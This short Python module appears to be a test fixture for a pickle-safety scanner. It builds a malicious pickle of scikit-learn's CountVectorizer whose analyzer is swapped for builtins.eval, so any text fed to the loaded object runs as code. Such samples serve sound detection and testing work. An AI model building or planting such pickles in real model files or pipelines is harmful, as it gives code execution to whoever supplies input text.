"""A vectoriser's analyser is eval: whoever sends a document runs code."""

from __future__ import annotations

from malicious_samples.recipes import legitimate_state
from tests.builder import Name, Pickle


def build(canary: str) -> bytes:
    del canary
    cls = Name("sklearn.feature_extraction.text", "CountVectorizer")
    return Pickle().object_(cls, state=legitimate_state(analyzer=Name("builtins", "eval"))).finish()
